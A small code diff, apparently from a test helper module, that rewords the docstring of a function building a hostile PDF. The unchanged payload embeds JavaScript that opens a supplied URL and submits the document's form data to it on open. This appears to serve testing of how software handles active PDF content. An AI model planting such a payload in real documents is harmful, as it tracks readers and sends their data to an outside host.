@@ -41,7 +41,7 @@ def pdf_of(
 
 
 def hostile_pdf(url: str) -> bytes:
-    """Returns a PDF that asks, opens ``url`` and sends to it, as soon as it is opened, looked at or clicked."""
+    """Returns a PDF that asks, opens ``url`` and sends to it, when it is opened, looked at or clicked."""
     script = (
         f"/S/JavaScript/JS(app.alert\\(1\\); app.launchURL\\('{url}', true\\); this.submitForm\\('{url}'\\))"
     )
